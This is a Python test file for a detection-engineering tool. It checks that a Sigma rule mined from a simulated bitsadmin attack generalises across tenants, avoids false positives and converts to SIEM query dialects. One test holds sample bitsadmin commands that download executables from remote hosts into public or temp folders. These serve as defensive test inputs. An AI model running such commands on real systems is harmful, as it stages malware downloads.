"""The end of the first article: what the model found on one account becomes a detection for everyone, everywhere."""

import json
import random
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import yaml

from longtail.detections.backtest import distinct_starts, merge
from longtail.detections.matching import Matcher, rows_of
from longtail.detections.mining import Mined, mined
from longtail.detections.navigator import navigator
from longtail.detections.report import report
from longtail.detections.rules import Rule
from longtail.detections.sigma import parsed
from longtail.executions.schema import PROCESS_EVENT
from longtail.executions.sightings import in_order, sightings
from longtail.executions.sightings import merge as merged
from longtail.fleet import Plan, events, truth
from longtail.outputs.plain import alert_object
from longtail.prevalence.findings import Alert
from longtail.prevalence.judgement import judged
from longtail.prevalence.techniques import TITLES
from longtail.settings import Settings

SYSTEM32 = "C:\\Windows\\System32\\"
PLAN = Plan(machines=60, days=8, seed=1, attacks=1, recipes=("article",), intensity=0.25)
ELSEWHERE = Plan(machines=40, days=6, seed=977, quiet=True, intensity=0.25)


@pytest.fixture(scope="module")
def hunted() -> tuple[tuple[Alert, ...], pl.DataFrame]:
    chunks = list(events(PLAN))
    seen = in_order(merged(sightings(chunk) for chunk in chunks))
    return judged(seen, Settings()).alerts, merge(distinct_starts(chunk) for chunk in chunks)


@pytest.fixture(scope="module")
def found(hunted: tuple[tuple[Alert, ...], pl.DataFrame]) -> Mined:
    return mined(*hunted)


@pytest.fixture(scope="module")
def rule(found: Mined) -> Rule:
    (only,) = [each for each in found.rules if each.title.startswith("Bitsadmin")]
    return only


def detection(rule: Rule) -> str:
    return str(yaml.safe_load(rule.text)["detection"]).lower()


def event(line: str, tenant: str = "elsewhere", account: str = "CORP\\mallory") -> dict[str, object]:
    image = SYSTEM32 + "bitsadmin.exe"
    return {"tenant": tenant, "host": "laptop-7", "account": account, "image": image, "command_line": line,
            "parent_image": "C:\\Windows\\explorer.exe", "time": PLAN.start + timedelta(days=1)}  # fmt: skip


def hits(rule: Rule, table: pl.DataFrame) -> int:
    pytest.importorskip("sigma")
    read = parsed(rule.text, rule.file_name).rules
    return int(Matcher(read).hits(rows_of(table))[0].size)


def test_a_bitsadmin_rule_is_born(rule: Rule) -> None:
    said = detection(rule)
    assert "bitsadmin.exe" in said and "transfer" in said
    assert "http://" in said, "a remote source"
    assert "\\users\\public" in rule.text, "a destination that anybody can write to"
    assert {"T1197", "T1105"} <= set(rule.techniques)


def test_it_names_neither_job_nor_address_nor_file_nor_account(rule: Rule) -> None:
    (incident,) = truth(PLAN).incidents
    (address,) = {word.split("/")[2] for each in incident.events for word in (each.command_line or "").split()
                  if word.startswith("http://")}  # fmt: skip
    for word in ("svn", address, "so.2", incident.account.lower(), incident.host.lower(), incident.tenant.lower()):
        assert word not in rule.text.lower()
    assert "User" not in detection(rule) and "parent" not in detection(rule)
    assert not rule.proof.account_rule


def test_it_fires_on_another_users_attack_in_another_tenant(rule: Rule) -> None:
    attacks = [
        "bitsadmin /transfer upd /download http://203.0.113.80/x.exe C:\\Users\\Public\\Libraries\\x.exe",
        "BITSADMIN.exe  -Transfer j0b HTTPS://cdn.example.net/a/w.dll C:\\ProgramData\\w.dll",
        'bitsadmin /addfile 7 http://198.51.100.2:8080/get "C:\\Windows\\Temp\\svc.exe"',
    ]
    table = pl.DataFrame([event(line) for line in attacks], schema_overrides=PROCESS_EVENT)
    starts = distinct_starts(table.select(pl.col(each) if each in table.columns else pl.lit(None).alias(each)
                                          for each in PROCESS_EVENT))  # fmt: skip
    assert hits(rule, starts) == len(attacks)


def test_it_does_not_fire_on_lawful_bitsadmin_here_or_elsewhere(rule: Rule) -> None:
    lawful = pl.concat(events(ELSEWHERE))
    assert lawful["image"].str.to_lowercase().str.ends_with("bitsadmin.exe").sum() > 0
    assert hits(rule, distinct_starts(lawful)) == 0
    assert rule.proof.whole.host_days == 0
    assert 0 < rule.proof.whole.upper < 100


@pytest.fixture
def attack_list(tmp_path: Path) -> Iterator[None]:
    """The list of techniques that Sigma's check of tags asks for, from our own table instead of the network."""
    mitre = pytest.importorskip("sigma.data.mitre_attack")
    listed = [{"type": "attack-pattern", "name": title,
               "external_references": [{"source_name": "mitre-attack", "external_id": id}]}
              for id, title in TITLES.items()]  # fmt: skip
    (tmp_path / "attack.json").write_text(json.dumps({"objects": listed}), "utf-8")
    mitre.set_cache_dir(str(tmp_path / "cache"))
    mitre.set_url(str(tmp_path / "attack.json"))
    yield
    mitre.clear_cache()


@pytest.mark.usefixtures("attack_list")
def test_every_rule_passes_sigmas_own_checks_and_speaks_every_dialect(found: Mined) -> None:
    collection = pytest.importorskip("sigma.collection")
    validation = pytest.importorskip("sigma.validation")
    from sigma.validators.core import validators

    checks = {each for name, each in validators.items() if name != "d3_fendtag"}  # no rule has such a tag
    rules = collection.SigmaCollection.merge([collection.SigmaCollection.from_yaml(each.text) for each in found.rules])
    assert [str(issue) for issue in validation.SigmaValidator(checks).validate_rules(rules)] == []
    for backend in backends():
        for each in found.rules:
            assert backend.convert(collection.SigmaCollection.from_yaml(each.text))


def test_every_rule_matches_the_rows_that_its_query_matches(
    found: Mined, hunted: tuple[tuple[Alert, ...], pl.DataFrame]
) -> None:
    pytest.importorskip("sigma.backends.sqlite")
    from bench.factory_backtest import COLUMNS, disagreements, tricky_rows

    fleet = rows_of(hunted[1])
    rows = pl.concat(
        [fleet.select(each for each in COLUMNS if each in fleet.columns), tricky_rows(2000)], how="diagonal"
    )
    assert all(
        hits.size for hits in Matcher([parsed(each.text, each.file_name).rules[0] for each in found.rules]).hits(rows)
    )
    assert disagreements([each.text for each in found.rules], rows) == []


def backends() -> Iterator[Any]:
    from sigma.backends.elasticsearch import EqlBackend, ESQLBackend, LuceneBackend
    from sigma.backends.kusto import KustoBackend
    from sigma.backends.splunk import SplunkBackend
    from sigma.backends.sqlite import sqliteBackend

    for each in (SplunkBackend, KustoBackend, LuceneBackend, EqlBackend, ESQLBackend, sqliteBackend):
        yield each()


def test_the_same_alerts_in_any_order_give_the_same_bytes(
    found: Mined, hunted: tuple[tuple[Alert, ...], pl.DataFrame]
) -> None:
    alerts, starts = hunted
    shuffled = random.Random(4).sample(alerts, len(alerts))
    again = mined([alert_object(alert) for alert in shuffled], starts.sample(fraction=1, shuffle=True, seed=5))
    assert [each.text for each in again.rules] == [each.text for each in found.rules]
    assert [each.file_name for each in again.rules] == [each.file_name for each in found.rules]
    assert report(again) == report(found)


def test_what_could_not_be_mined_is_said_with_its_reason(found: Mined) -> None:
    told = report(found)
    assert all(each.reason in told for each in found.refused)
    assert any("Svn.exe" in deed.command_line for each in found.refused for deed in each.deeds)
    assert all(rule.title in told for rule in found.rules)


def test_the_layer_shows_the_techniques(found: Mined) -> None:
    layer = navigator(found.rules)
    assert layer["domain"] == "enterprise-attack"
    assert {"T1197", "T1105"} <= {each["techniqueID"] for each in layer["techniques"]}
